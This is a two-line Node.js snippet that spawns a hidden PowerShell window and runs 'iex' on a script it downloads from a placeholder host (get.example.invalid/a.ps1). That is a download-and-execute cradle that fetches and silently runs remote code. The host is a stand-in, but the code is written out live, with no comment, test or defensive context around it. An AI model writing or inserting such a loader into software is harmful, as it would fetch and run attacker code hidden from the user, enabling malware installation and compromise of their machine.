import { spawn } from 'node:child_process';
spawn('powershell.exe', ['-w', 'hidden', '-c', "iex (New-Object Net.WebClient).DownloadString('https://get.example.invalid/a.ps1')"]);
